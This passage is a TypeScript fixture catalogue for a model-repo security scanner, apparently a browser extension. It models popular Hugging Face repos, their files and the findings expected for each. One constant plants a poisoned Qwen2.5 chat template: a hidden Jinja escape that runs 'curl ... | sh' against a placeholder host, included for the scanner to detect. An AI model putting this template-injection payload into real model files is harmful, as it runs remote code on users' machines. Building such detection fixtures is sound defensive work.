import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import type { FixtureFile, FixtureRepo } from "./catalogue-types";
import type { GgufSpec } from "./gguf-fixture";
import { GEMMA } from "../fixtures/chat-templates";

/**
 * The Hub's most used repos in their real shapes (issue 24): transformers classics with their
 * TensorFlow, Flax, Rust and ONNX files, sentence-transformers, diffusers, GGUF quantizers with
 * 20+ files of 3 to 30 GB, gated official models, Keras presets, timm, pyannote, a Lightning-trained
 * Stable Diffusion checkpoint, repos with `train_script.py` and `handler.py`, CoreML archives. File
 * names and sizes are the real repos' (as listed on their Files tabs; a few long lists are trimmed
 * of files that add no new kind, said where they are). Contents are real formats where the
 * extension reads them: GGUF v3 headers with the real vocabulary sizes and the models' real
 * templates (tests/fixtures/chat-templates), sparse PyTorch zips, HDF5 weights.
 *
 * Two malicious variants sit among them and must still be caught: a poisoned template in the most
 * used quantization of a big GGUF repo, and a dangerous import in one shard of a sharded pickle
 * checkpoint (its Hub scan still queued, so the extension's own scan must find it).
 *
 * Each `expect` is the level the repo must reach, with a one-line comment where a class of issue 24
 * (well-known library classes, zips without pickles, Python nothing loads) is what keeps it quiet. `scripts/bench-popular.ts`
 * prints the table, `tests/unit/rules/popular-catalogue.test.ts` checks every entry.
 */
const here = dirname(fileURLToPath(import.meta.url));
const CORPUS = join(here, "../fixtures/chat-templates/huggingface.js-e2e.json");
const corpus = JSON.parse(readFileSync(CORPUS, "utf8")) as { name: string; template: string }[];
/** A real template of the corpus, by model name. */
function realTemplate(name: string): string {
  const found = corpus.find((entry) => entry.name === name);
  if (!found) throw new Error(`no template for ${name} in the corpus`);
  return found.template;
}

export const LLAMA31_TEMPLATE = realTemplate("meta-llama/Llama-3.1-8B-Instruct");
export const QWEN25_TEMPLATE = realTemplate("Qwen/Qwen2.5-7B-Instruct");
export const QWEN3_TEMPLATE = realTemplate("Qwen/Qwen3-0.6B");
export const MIXTRAL_TEMPLATE = realTemplate("mistralai/Mixtral-8x7B-Instruct-v0.1");
/** The Qwen2.5 template with an escape hidden in a branch no conversation takes: the shape a poisoned quantization would have. */
export const QWEN25_POISONED = `${QWEN25_TEMPLATE}{%- if messages | length > 9999 %}{{ cycler.__init__.__globals__.os.popen('curl -s https://x.invalid/p | sh').read() }}{%- endif %}`;

/** GGUF headers of the popular families, for `content: "gguf:<name>"` (file-content.ts reads both tables). */
export const POPULAR_GGUF_FIXTURES: Record<string, GgufSpec> = {
  // Llama 3.x: 128,256 tokens and 280,147 merges, as in Meta's tokenizer: about 6 MB to the template.
  "popular-llama31-8b": { architecture: "llama", name: "Meta Llama 3.1 8B Instruct", vocabSize: 128_256, mergeCount: 280_147, chatTemplate: LLAMA31_TEMPLATE, blockCount: 32, contextLength: 131_072 },
  // Qwen2.5: 151,936 tokens (151,646 in the tokenizer, padded), 151,387 merges: about 4.8 MB.
  "popular-qwen25-14b": { architecture: "qwen2", name: "Qwen2.5 14B Instruct", vocabSize: 151_936, mergeCount: 151_387, chatTemplate: QWEN25_TEMPLATE, blockCount: 48, contextLength: 32_768 },
  "popular-qwen25-14b-poisoned": { architecture: "qwen2", name: "Qwen2.5 14B Instruct", vocabSize: 151_936, mergeCount: 151_387, chatTemplate: QWEN25_POISONED, blockCount: 48, contextLength: 32_768 },
  "popular-qwen3-30b-a3b": { architecture: "qwen3moe", name: "Qwen3 30B A3B", vocabSize: 151_936, mergeCount: 151_387, chatTemplate: QWEN3_TEMPLATE, blockCount: 48, contextLength: 40_960 },
  // Mistral 7B v0.2: a 32,000-token SentencePiece vocabulary, no merges: about 0.5 MB.
  "popular-mistral-7b": { architecture: "llama", name: "mistralai_mistral-7b-instruct-v0.2", vocabSize: 32_000, mergeCount: 0, chatTemplate: MIXTRAL_TEMPLATE, blockCount: 32, contextLength: 32_768 },
  // Gemma 2: 256,000 SentencePiece tokens, no merges: about 4 MB.
  "popular-gemma2-9b": { architecture: "gemma2", name: "gemma-2-9b-it", vocabSize: 256_000, mergeCount: 0, chatTemplate: GEMMA, blockCount: 42, contextLength: 8_192 },
};

const GB = 1e9;
const MB = 1e6;
const OLD = "2024-09-20T10:00:00.000Z";
const commit = (title: string) => ({ title, date: OLD });

const TORCH_IMPORTS = [
  { module: "collections", name: "OrderedDict", safety: "innocuous" as const },
  { module: "torch", name: "FloatStorage", safety: "innocuous" as const },
  { module: "torch._utils", name: "_rebuild_tensor_v2", safety: "innocuous" as const },
];
/** What the Hub's pickle scan lists for a Lightning-trained Stable Diffusion checkpoint (runwayml's v1-5-pruned-emaonly.ckpt). */
const LIGHTNING_SD_IMPORTS = [
  { module: "collections", name: "OrderedDict", safety: "innocuous" as const },
  { module: "torch", name: "FloatStorage", safety: "innocuous" as const },
  { module: "torch", name: "IntStorage", safety: "innocuous" as const },
  { module: "torch", name: "LongStorage", safety: "innocuous" as const },
  { module: "torch._utils", name: "_rebuild_tensor_v2", safety: "innocuous" as const },
  { module: "numpy.core.multiarray", name: "scalar", safety: "innocuous" as const },
  { module: "numpy", name: "dtype", safety: "innocuous" as const },
  { module: "_codecs", name: "encode", safety: "innocuous" as const },
  { module: "pytorch_lightning.callbacks.model_checkpoint", name: "ModelCheckpoint", safety: "suspicious" as const },
];

const gitattributes: FixtureFile = { path: ".gitattributes", size: 1_519, lastCommit: commit("initial commit") };
const readme = (size = 9_800): FixtureFile => ({ path: "README.md", size, lastCommit: commit("Update README.md") });
// Sizes are written as the Files tab shows them (4.92 GB); a file's size is a whole number of bytes.
const small = (path: string, size: number): FixtureFile => ({ path, size: Math.round(size), lastCommit: commit(`Upload ${path}`) });
const weights = (path: string, size: number, extra: Partial<FixtureFile> = {}): FixtureFile => ({ path, size: Math.round(size), lfs: true, scan: "safe", lastCommit: commit(`Upload ${path}`), ...extra });
/** A pickle the Hub's scan has judged, listing the imports it reports. */
const pickle = (path: string, size: number, imports: FixtureFile["imports"] = TORCH_IMPORTS, extra: Partial<FixtureFile> = {}): FixtureFile => weights(path, size, { imports, ...extra });
/** What the Hub's scan says of an archive it opened and found no pickle in. */
const ZIP_SCANNED: Partial<FixtureFile> = { imports: [], scanners: { pickleImportScan: { status: "safe" }, avScan: { status: "safe" } } };
const h5 = (path: string, size: number): FixtureFile => weights(path, size, { content: "keras/weights-only.h5" });
const gguf = (path: string, fixture: string, size: number): FixtureFile => weights(path, size, { content: `gguf:${fixture}` });
/** A tokenizer_config.json, with the model's template when it has one. */
function tokenizerConfig(path: string, fields: Record<string, unknown>): FixtureFile {
  const text = JSON.stringify({ add_bos_token: true, clean_up_tokenization_spaces: false, model_max_length: 1e30, ...fields }, null, 2);
  return { path, size: Buffer.byteLength(text), text, lastCommit: commit(`Upload ${path}`) };
}

const org = (name: string, isVerified = true, followers = 5_000) => ({ name, kind: "org" as const, isVerified, fullname: name, followers });
const user = (name: string, createdAt = "2022-02-01T00:00:00.000Z", followers = 5_000) => ({ name, kind: "user" as const, createdAt, followers });

/** A quantizer's files: one GGUF per quantization, with the real sizes; `split` ones in a folder of shards. */
function quantizations(prefix: string, fixture: string, sizes: Record<string, number>, split: Record<string, number> = {}): FixtureFile[] {
  const files = Object.entries(sizes).map(([quant, size]) => gguf(`${prefix}-${quant}.gguf`, fixture, size));
  for (const [quant, size] of Object.entries(split)) {
    files.push(gguf(`${quant}/${prefix}-${quant}-00001-of-00002.gguf`, fixture, size / 2));
    // A later shard holds only `split.*` keys; runtimes (and the extension) read the first shard's.
    files.push(weights(`${quant}/${prefix}-${quant}-00002-of-00002.gguf`, size / 2));
  }
  return files;
}

/** bartowski's 25 files of Qwen2.5 14B Instruct (4.7 to 29.5 GB), as his Files tab lists them. */
const QWEN25_14B_SIZES: Record<string, number> = {
  IQ2_XS: 4.70 * GB, IQ2_M: 5.36 * GB, IQ3_XS: 6.38 * GB, IQ3_M: 6.92 * GB, IQ4_XS: 8.12 * GB, IQ4_NL: 8.55 * GB,
  Q2_K: 5.77 * GB, Q2_K_L: 6.53 * GB, Q3_K_S: 6.66 * GB, Q3_K_M: 7.34 * GB, Q3_K_L: 7.92 * GB, Q3_K_XL: 8.61 * GB,
  Q4_0: 8.54 * GB, Q4_0_4_4: 8.52 * GB, Q4_0_4_8: 8.52 * GB, Q4_0_8_8: 8.52 * GB, Q4_K_S: 8.57 * GB, Q4_K_M: 8.99 * GB, Q4_K_L: 9.57 * GB,
  Q5_K_S: 10.3 * GB, Q5_K_M: 10.5 * GB, Q5_K_L: 11.0 * GB, Q6_K: 12.1 * GB, Q6_K_L: 12.5 * GB, Q8_0: 15.7 * GB, f16: 29.5 * GB,
};

const qwen25Gguf = { total: 14_770_033_664, architecture: "qwen2", context_length: 32_768, chat_template: QWEN25_TEMPLATE, bos_token: "<|endoftext|>", eos_token: "<|im_end|>" };

/** A popular repo, as the fake Hub serves it. */
export type PopularRepo = FixtureRepo;

export const POPULAR_REPOS: PopularRepo[] = [
  // ---- transformers classics -------------------------------------------------------------------
  {
    type: "model",
    id: "FacebookAI/roberta-base",
    story: "RoBERTa base: PyTorch, safetensors, TensorFlow, Flax and Rust weights side by side.",
    author: org("FacebookAI"),
    tags: ["transformers", "pytorch", "tf", "jax", "rust", "safetensors", "roberta", "fill-mask"],
    config: { architectures: ["RobertaForMaskedLM"], model_type: "roberta" },
    files: [gitattributes, readme(), small("config.json", 481), small("dict.txt", 603_000), weights("flax_model.msgpack", 499 * MB), small("merges.txt", 456_000), weights("model.safetensors", 499 * MB), pickle("pytorch_model.bin", 501 * MB), weights("rust_model.ot", 657 * MB), h5("tf_model.h5", 657 * MB), small("tokenizer.json", 1_360_000), small("vocab.json", 899_000)],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  {
    type: "model",
    id: "openai-community/gpt2",
    story: "GPT-2: safetensors, PyTorch, TensorFlow, Flax, Rust, three TFLite files and an onnx/ folder with its own tokenizer files.",
    author: org("openai-community"),
    tags: ["transformers", "pytorch", "tf", "jax", "tflite", "rust", "onnx", "safetensors", "gpt2", "text-generation"],
    config: { architectures: ["GPT2LMHeadModel"], model_type: "gpt2" },
    files: [
      gitattributes, readme(8_100), weights("64-8bits.tflite", 125 * MB), weights("64-fp16.tflite", 248 * MB), weights("64.tflite", 495 * MB), small("config.json", 665), weights("flax_model.msgpack", 498 * MB), small("generation_config.json", 124), small("merges.txt", 456_000), weights("model.safetensors", 548 * MB),
      weights("onnx/decoder_model.onnx", 653 * MB), weights("onnx/decoder_model_merged.onnx", 655 * MB), weights("onnx/decoder_with_past_model.onnx", 653 * MB), small("onnx/config.json", 879), small("onnx/generation_config.json", 119), small("onnx/merges.txt", 456_000), small("onnx/special_tokens_map.json", 99), small("onnx/tokenizer.json", 2_110_000), tokenizerConfig("onnx/tokenizer_config.json", { bos_token: "<|endoftext|>", eos_token: "<|endoftext|>", tokenizer_class: "GPT2Tokenizer" }), small("onnx/vocab.json", 1_040_000),
      pickle("pytorch_model.bin", 548 * MB), weights("rust_model.ot", 702 * MB), h5("tf_model.h5", 498 * MB), small("tokenizer.json", 1_360_000), tokenizerConfig("tokenizer_config.json", { model_max_length: 1024 }), small("vocab.json", 1_040_000),
    ],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  {
    type: "model",
    id: "distilbert/distilbert-base-uncased",
    story: "DistilBERT: five weight formats, a tokenizer config without a chat template.",
    author: org("distilbert"),
    tags: ["transformers", "pytorch", "tf", "jax", "rust", "safetensors", "distilbert", "fill-mask"],
    config: { architectures: ["DistilBertForMaskedLM"], model_type: "distilbert" },
    files: [gitattributes, readme(8_400), small("config.json", 483), weights("flax_model.msgpack", 268 * MB), weights("model.safetensors", 268 * MB), pickle("pytorch_model.bin", 268 * MB), weights("rust_model.ot", 268 * MB), h5("tf_model.h5", 363 * MB), small("tokenizer.json", 466_000), tokenizerConfig("tokenizer_config.json", { do_lower_case: true }), small("vocab.txt", 232_000)],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  {
    type: "model",
    id: "google-t5/t5-small",
    story: "T5 small: PyTorch, TensorFlow, Flax, Rust, safetensors and an onnx/ folder of encoder and decoders.",
    author: org("google-t5"),
    tags: ["transformers", "pytorch", "tf", "jax", "rust", "onnx", "safetensors", "t5", "text2text-generation"],
    config: { architectures: ["T5ForConditionalGeneration"], model_type: "t5" },
    files: [gitattributes, readme(8_600), small("config.json", 1_210), weights("flax_model.msgpack", 242 * MB), small("generation_config.json", 147), weights("model.safetensors", 242 * MB), weights("onnx/decoder_model.onnx", 232 * MB), weights("onnx/decoder_model_merged.onnx", 233 * MB), weights("onnx/decoder_with_past_model.onnx", 220 * MB), weights("onnx/encoder_model.onnx", 141 * MB), pickle("pytorch_model.bin", 242 * MB), weights("rust_model.ot", 242 * MB), small("spiece.model", 792_000), h5("tf_model.h5", 242 * MB), small("tokenizer.json", 1_390_000)],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  {
    type: "model",
    id: "openai/whisper-large-v3",
    story: "Whisper large v3: a 3 GB pytorch_model.bin, its safetensors, fp32 shards of both, Flax weights.",
    author: org("openai"),
    tags: ["transformers", "pytorch", "jax", "safetensors", "whisper", "automatic-speech-recognition"],
    config: { architectures: ["WhisperForConditionalGeneration"], model_type: "whisper" },
    files: [
      gitattributes, readme(21_700), small("added_tokens.json", 34_600), small("config.json", 1_270), weights("flax_model.msgpack", 3.09 * GB), small("generation_config.json", 3_900), small("merges.txt", 494_000),
      weights("model.fp32-00001-of-00002.safetensors", 4.99 * GB), weights("model.fp32-00002-of-00002.safetensors", 1.18 * GB), weights("model.safetensors", 3.09 * GB), small("model.safetensors.index.fp32.json", 117_000), small("normalizer.json", 52_700), small("preprocessor_config.json", 340),
      pickle("pytorch_model.bin", 3.09 * GB), small("pytorch_model.bin.index.fp32.json", 117_000), pickle("pytorch_model.fp32-00001-of-00002.bin", 4.99 * GB), pickle("pytorch_model.fp32-00002-of-00002.bin", 1.18 * GB),
      small("special_tokens_map.json", 2_070), small("tokenizer.json", 2_480_000), tokenizerConfig("tokenizer_config.json", { bos_token: "<|endoftext|>", eos_token: "<|endoftext|>", tokenizer_class: "WhisperTokenizer" }), small("vocab.json", 1_040_000),
    ],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  // ---- sentence-transformers -------------------------------------------------------------------
  {
    type: "model",
    id: "sentence-transformers/all-MiniLM-L6-v2",
    story: "The most downloaded model on the Hub: safetensors, PyTorch, TF, Rust, nine ONNX variants, OpenVINO, and the train_script.py it was trained with.",
    author: org("sentence-transformers"),
    tags: ["sentence-transformers", "pytorch", "tf", "rust", "onnx", "safetensors", "openvino", "bert", "feature-extraction", "sentence-similarity"],
    config: { architectures: ["BertModel"], model_type: "bert" },
    files: [
      gitattributes, small("1_Pooling/config.json", 190), readme(10_500), small("config.json", 612), small("config_sentence_transformers.json", 116), small("data_config.json", 39_300), weights("model.safetensors", 90.9 * MB), small("modules.json", 349),
      weights("onnx/model.onnx", 90.4 * MB), weights("onnx/model_O1.onnx", 90.4 * MB), weights("onnx/model_O2.onnx", 90.3 * MB), weights("onnx/model_O3.onnx", 90.3 * MB), weights("onnx/model_O4.onnx", 45.2 * MB), weights("onnx/model_qint8_arm64.onnx", 23 * MB), weights("onnx/model_qint8_avx512.onnx", 23 * MB), weights("onnx/model_qint8_avx512_vnni.onnx", 23 * MB), weights("onnx/model_quint8_avx2.onnx", 23 * MB),
      // OpenVINO IR weights are raw tensors, not a pickle; the Hub's scan finds no import in them.
      weights("openvino/openvino_model.bin", 90.3 * MB, { imports: [] }), small("openvino/openvino_model.xml", 211_000), weights("openvino/openvino_model_qint8_quantized.bin", 22.9 * MB, { imports: [] }), small("openvino/openvino_model_qint8_quantized.xml", 368_000),
      pickle("pytorch_model.bin", 90.9 * MB), weights("rust_model.ot", 90.9 * MB), small("sentence_bert_config.json", 53), small("special_tokens_map.json", 112), h5("tf_model.h5", 91 * MB), small("tokenizer.json", 466_000), tokenizerConfig("tokenizer_config.json", { do_lower_case: true, tokenizer_class: "BertTokenizer" }), small("train_script.py", 13_200), small("vocab.txt", 232_000),
    ],
    scansDone: true,
    // remote-code at info: train_script.py is a .py file that nothing loads (no auto_map, no custom_code tag).
    expect: { level: "info", findings: ["pickle-weights", "remote-code"] },
  },
  {
    type: "model",
    id: "sentence-transformers/all-mpnet-base-v2",
    story: "MPNet sentence embeddings: safetensors, PyTorch, ONNX, OpenVINO, and train_script.py.",
    author: org("sentence-transformers"),
    tags: ["sentence-transformers", "pytorch", "onnx", "safetensors", "openvino", "mpnet", "fill-mask", "feature-extraction", "sentence-similarity"],
    config: { architectures: ["MPNetForMaskedLM"], model_type: "mpnet" },
    files: [
      gitattributes, small("1_Pooling/config.json", 190), readme(10_600), small("config.json", 571), small("config_sentence_transformers.json", 116), small("data_config.json", 39_300), weights("model.safetensors", 438 * MB), small("modules.json", 349),
      weights("onnx/model.onnx", 436 * MB), weights("onnx/model_O4.onnx", 218 * MB), weights("onnx/model_qint8_avx512.onnx", 110 * MB), weights("openvino/openvino_model.bin", 435 * MB, { imports: [] }), small("openvino/openvino_model.xml", 392_000),
      pickle("pytorch_model.bin", 438 * MB), small("sentence_bert_config.json", 53), small("special_tokens_map.json", 239), small("tokenizer.json", 466_000), tokenizerConfig("tokenizer_config.json", { do_lower_case: true, tokenizer_class: "MPNetTokenizer" }), small("train_script.py", 13_100), small("vocab.txt", 232_000),
    ],
    scansDone: true,
    // remote-code at info: train_script.py is a .py file that nothing loads (no auto_map, no custom_code tag).
    expect: { level: "info", findings: ["pickle-weights", "remote-code"] },
  },
  {
    type: "model",
    id: "BAAI/bge-small-en-v1.5",
    story: "BGE small: safetensors, PyTorch and ONNX, sentence-transformers layout.",
    author: org("BAAI"),
    tags: ["sentence-transformers", "pytorch", "onnx", "safetensors", "bert", "feature-extraction"],
    config: { architectures: ["BertModel"], model_type: "bert" },
    files: [gitattributes, small("1_Pooling/config.json", 190), readme(90_800), small("config.json", 743), small("config_sentence_transformers.json", 124), weights("model.safetensors", 133 * MB), small("modules.json", 349), weights("onnx/model.onnx", 133 * MB), pickle("pytorch_model.bin", 134 * MB), small("sentence_bert_config.json", 52), small("special_tokens_map.json", 125), small("tokenizer.json", 711_000), tokenizerConfig("tokenizer_config.json", { do_lower_case: true, tokenizer_class: "BertTokenizer" }), small("vocab.txt", 232_000)],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  // ---- diffusers -------------------------------------------------------------------------------
  {
    type: "model",
    id: "stabilityai/stable-diffusion-xl-base-1.0",
    story: "SDXL base: single-file checkpoints, the diffusers folders in fp16 and fp32, ONNX and OpenVINO exports (the vae_1_0 folder and a few ONNX data files trimmed).",
    author: org("stabilityai"),
    tags: ["diffusers", "onnx", "safetensors", "text-to-image", "stable-diffusion"],
    files: [
      gitattributes, readme(8_800), small("model_index.json", 609), weights("sd_xl_base_1.0.safetensors", 6.94 * GB), weights("sd_xl_base_1.0_0.9vae.safetensors", 6.94 * GB), weights("sd_xl_offset_example-lora_1.0.safetensors", 49.6 * MB),
      small("scheduler/scheduler_config.json", 479), small("text_encoder/config.json", 565), weights("text_encoder/model.fp16.safetensors", 246 * MB), weights("text_encoder/model.onnx", 492 * MB), weights("text_encoder/model.safetensors", 492 * MB), weights("text_encoder/openvino_model.bin", 492 * MB, { imports: [] }), small("text_encoder/openvino_model.xml", 1_060_000),
      small("text_encoder_2/config.json", 575), weights("text_encoder_2/model.fp16.safetensors", 1.39 * GB), weights("text_encoder_2/model.onnx", 1.39 * GB), weights("text_encoder_2/model.safetensors", 2.78 * GB),
      small("tokenizer/merges.txt", 525_000), small("tokenizer/special_tokens_map.json", 472), tokenizerConfig("tokenizer/tokenizer_config.json", { bos_token: "<|startoftext|>", eos_token: "<|endoftext|>", tokenizer_class: "CLIPTokenizer", model_max_length: 77 }), small("tokenizer/vocab.json", 1_060_000),
      small("tokenizer_2/merges.txt", 525_000), small("tokenizer_2/special_tokens_map.json", 460), tokenizerConfig("tokenizer_2/tokenizer_config.json", { bos_token: "<|startoftext|>", eos_token: "<|endoftext|>", tokenizer_class: "CLIPTokenizer", model_max_length: 77 }), small("tokenizer_2/vocab.json", 1_060_000),
      small("unet/config.json", 1_680), weights("unet/diffusion_pytorch_model.fp16.safetensors", 5.14 * GB), weights("unet/diffusion_pytorch_model.safetensors", 10.3 * GB), weights("unet/model.onnx", 7.29 * MB), weights("unet/model.onnx_data", 10.3 * GB), weights("unet/openvino_model.bin", 10.3 * GB, { imports: [] }), small("unet/openvino_model.xml", 24_600_000),
      small("vae/config.json", 642), weights("vae/diffusion_pytorch_model.fp16.safetensors", 167 * MB), weights("vae/diffusion_pytorch_model.safetensors", 335 * MB), weights("vae_decoder/model.onnx", 198 * MB), weights("vae_encoder/model.onnx", 137 * MB),
    ],
    scansDone: true,
    // pickle-weights at info: the OpenVINO .bin files are raw tensors, counted as pickles by their name; the Hub's scans list no import in them.
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  {
    type: "model",
    id: "stable-diffusion-v1-5/stable-diffusion-v1-5",
    story: "Stable Diffusion 1.5: the Lightning-trained v1-5-pruned.ckpt and -emaonly.ckpt beside their safetensors, and the diffusers folders with .bin and safetensors copies.",
    author: org("stable-diffusion-v1-5", false, 3_000),
    tags: ["diffusers", "safetensors", "stable-diffusion", "text-to-image"],
    files: [
      gitattributes, readme(14_500), small("model_index.json", 541), small("v1-inference.yaml", 1_870),
      pickle("v1-5-pruned-emaonly.ckpt", 4.27 * GB, LIGHTNING_SD_IMPORTS), weights("v1-5-pruned-emaonly.safetensors", 4.27 * GB), pickle("v1-5-pruned.ckpt", 7.7 * GB, LIGHTNING_SD_IMPORTS), weights("v1-5-pruned.safetensors", 7.7 * GB),
      small("feature_extractor/preprocessor_config.json", 342), small("safety_checker/config.json", 4_720), weights("safety_checker/model.fp16.safetensors", 608 * MB), weights("safety_checker/model.safetensors", 1.22 * GB), pickle("safety_checker/pytorch_model.bin", 1.22 * GB), pickle("safety_checker/pytorch_model.fp16.bin", 608 * MB),
      small("scheduler/scheduler_config.json", 308), small("text_encoder/config.json", 617), weights("text_encoder/model.fp16.safetensors", 246 * MB), weights("text_encoder/model.safetensors", 492 * MB), pickle("text_encoder/pytorch_model.bin", 492 * MB), pickle("text_encoder/pytorch_model.fp16.bin", 246 * MB),
      small("tokenizer/merges.txt", 525_000), small("tokenizer/special_tokens_map.json", 472), tokenizerConfig("tokenizer/tokenizer_config.json", { bos_token: "<|startoftext|>", eos_token: "<|endoftext|>", tokenizer_class: "CLIPTokenizer", model_max_length: 77 }), small("tokenizer/vocab.json", 1_060_000),
      small("unet/config.json", 743), pickle("unet/diffusion_pytorch_model.bin", 3.44 * GB), pickle("unet/diffusion_pytorch_model.fp16.bin", 1.72 * GB), weights("unet/diffusion_pytorch_model.fp16.safetensors", 1.72 * GB), pickle("unet/diffusion_pytorch_model.non_ema.bin", 3.44 * GB), weights("unet/diffusion_pytorch_model.non_ema.safetensors", 3.44 * GB), weights("unet/diffusion_pytorch_model.safetensors", 3.44 * GB),
      small("vae/config.json", 547), pickle("vae/diffusion_pytorch_model.bin", 335 * MB), pickle("vae/diffusion_pytorch_model.fp16.bin", 167 * MB), weights("vae/diffusion_pytorch_model.fp16.safetensors", 167 * MB), weights("vae/diffusion_pytorch_model.safetensors", 335 * MB),
    ],
    scansDone: true,
    // pickle-imports at info: the Hub calls ModelCheckpoint, numpy scalars and _codecs.encode suspicious; Hub Sentinel's list clears them.
    expect: { level: "info", findings: ["pickle-weights", "pickle-imports", "unverified-author"] },
  },
  {
    type: "model",
    id: "black-forest-labs/FLUX.1-schnell",
    story: "FLUX.1 schnell: the single-file checkpoint and autoencoder, diffusers folders with sharded transformer and T5 encoder.",
    author: org("black-forest-labs"),
    tags: ["diffusers", "safetensors", "text-to-image", "flux"],
    files: [
      gitattributes, readme(3_400), small("LICENSE.md", 11_400), weights("ae.safetensors", 335 * MB), weights("flux1-schnell.safetensors", 23.8 * GB), small("model_index.json", 536), small("scheduler/scheduler_config.json", 274),
      small("text_encoder/config.json", 613), weights("text_encoder/model.safetensors", 246 * MB), small("text_encoder_2/config.json", 782), weights("text_encoder_2/model-00001-of-00002.safetensors", 4.99 * GB), weights("text_encoder_2/model-00002-of-00002.safetensors", 4.53 * GB), small("text_encoder_2/model.safetensors.index.json", 19_900),
      small("tokenizer/merges.txt", 525_000), small("tokenizer/special_tokens_map.json", 588), tokenizerConfig("tokenizer/tokenizer_config.json", { tokenizer_class: "CLIPTokenizer", model_max_length: 77 }), small("tokenizer/vocab.json", 1_060_000),
      small("tokenizer_2/special_tokens_map.json", 2_540), small("tokenizer_2/spiece.model", 792_000), small("tokenizer_2/tokenizer.json", 2_420_000), tokenizerConfig("tokenizer_2/tokenizer_config.json", { tokenizer_class: "T5Tokenizer", model_max_length: 512 }),
      small("transformer/config.json", 321), weights("transformer/diffusion_pytorch_model-00001-of-00003.safetensors", 9.98 * GB), weights("transformer/diffusion_pytorch_model-00002-of-00003.safetensors", 9.95 * GB), weights("transformer/diffusion_pytorch_model-00003-of-00003.safetensors", 3.87 * GB), small("transformer/diffusion_pytorch_model.safetensors.index.json", 121_000),
      small("vae/config.json", 774), weights("vae/diffusion_pytorch_model.safetensors", 168 * MB),
    ],
    scansDone: true,
    expect: { level: "ok", findings: [] },
  },
  // ---- GGUF quantizers -------------------------------------------------------------------------
  {
    type: "model",
    id: "bartowski/Qwen2.5-14B-Instruct-GGUF",
    story: "25 quantizations of Qwen2.5 14B Instruct, 4.7 to 29.5 GB each, with a 152k-token vocabulary (about 4.8 MB of header each): the page reads the most used ones within its budget, the rest are named and read when opened.",
    author: user("bartowski", "2023-06-01T00:00:00.000Z", 9_000),
    tags: ["gguf", "text-generation", "chat", "conversational"],
    cardData: { base_model: "Qwen/Qwen2.5-14B-Instruct", quantized_by: "bartowski", license: "apache-2.0" },
    files: [gitattributes, readme(12_300), ...quantizations("Qwen2.5-14B-Instruct", "popular-qwen25-14b", QWEN25_14B_SIZES), small("Qwen2.5-14B-Instruct.imatrix", 7_480_000)],
    gguf: qwen25Gguf,
    scansDone: true,
    expect: { level: "info", findings: ["chat-template", "unverified-author"] },
  },
  {
    type: "model",
    id: "bartowski/Meta-Llama-3.1-8B-Instruct-GGUF",
    story: "24 quantizations of Llama 3.1 8B Instruct, 3 to 32 GB, with Llama 3's 128k-token vocabulary (about 6 MB of header each).",
    author: user("bartowski", "2023-06-01T00:00:00.000Z", 9_000),
    tags: ["gguf", "facebook", "meta", "llama", "llama-3", "text-generation"],
    cardData: { base_model: "meta-llama/Meta-Llama-3.1-8B-Instruct", quantized_by: "bartowski", license: "llama3.1" },
    files: [
      gitattributes, readme(15_600),
      ...quantizations("Meta-Llama-3.1-8B-Instruct", "popular-llama31-8b", {
        IQ2_M: 2.95 * GB, IQ3_M: 3.78 * GB, IQ3_XS: 3.52 * GB, IQ4_XS: 4.45 * GB, Q2_K: 3.18 * GB, Q2_K_L: 3.69 * GB, Q3_K_L: 4.32 * GB, Q3_K_M: 4.02 * GB, Q3_K_S: 3.66 * GB, Q3_K_XL: 4.78 * GB, Q4_0: 4.66 * GB, Q4_0_4_4: 4.66 * GB, Q4_0_4_8: 4.66 * GB, Q4_0_8_8: 4.66 * GB,
        Q4_K_L: 5.31 * GB, Q4_K_M: 4.92 * GB, Q4_K_S: 4.69 * GB, Q5_K_L: 6.06 * GB, Q5_K_M: 5.73 * GB, Q5_K_S: 5.6 * GB, Q6_K: 6.6 * GB, Q6_K_L: 6.85 * GB, Q8_0: 8.54 * GB, f32: 32.1 * GB,
      }),
      small("Meta-Llama-3.1-8B-Instruct.imatrix", 4_990_000),
    ],
    gguf: { total: 8_030_261_312, architecture: "llama", context_length: 131_072, chat_template: LLAMA31_TEMPLATE, bos_token: "<|begin_of_text|>", eos_token: "<|eot_id|>" },
    scansDone: true,
    expect: { level: "info", findings: ["chat-template", "unverified-author"] },
  },
  {
    type: "model",
    id: "unsloth/Qwen3-30B-A3B-GGUF",
    story: "unsloth's 25 quantizations of Qwen3 30B A3B, 8 to 61 GB, dynamic UD- ones among them and BF16 in two shards.",
    author: org("unsloth"),
    tags: ["gguf", "qwen3_moe", "unsloth", "qwen3", "qwen", "text-generation"],
    cardData: { base_model: "Qwen/Qwen3-30B-A3B", license: "apache-2.0" },
    files: [
      gitattributes, readme(14_900),
      ...quantizations(
        "Qwen3-30B-A3B",
        "popular-qwen3-30b-a3b",
        {
          IQ4_NL: 17.3 * GB, IQ4_XS: 16.4 * GB, Q2_K: 11.3 * GB, Q2_K_L: 11.5 * GB, Q3_K_M: 14.7 * GB, Q3_K_S: 13.3 * GB, Q4_0: 17.4 * GB, Q4_1: 19.2 * GB, Q4_K_M: 18.6 * GB, Q4_K_S: 17.5 * GB, Q5_K_M: 21.7 * GB, Q5_K_S: 21.1 * GB, Q6_K: 25.1 * GB, Q8_0: 32.5 * GB,
          "UD-IQ1_M": 9.59 * GB, "UD-IQ1_S": 8.96 * GB, "UD-IQ2_M": 10.8 * GB, "UD-IQ2_XXS": 9.97 * GB, "UD-IQ3_XXS": 12.6 * GB, "UD-Q2_K_XL": 11.8 * GB, "UD-Q3_K_XL": 13.8 * GB, "UD-Q4_K_XL": 17.7 * GB, "UD-Q5_K_XL": 21.7 * GB, "UD-Q6_K_XL": 26.3 * GB, "UD-Q8_K_XL": 36 * GB,
        },
        { BF16: 61.1 * GB },
      ),
    ],
    gguf: { total: 30_532_122_624, architecture: "qwen3moe", context_length: 40_960, chat_template: QWEN3_TEMPLATE, bos_token: "<|endoftext|>", eos_token: "<|im_end|>" },
    scansDone: true,
    expect: { level: "info", findings: ["chat-template"] },
  },
  {
    type: "model",
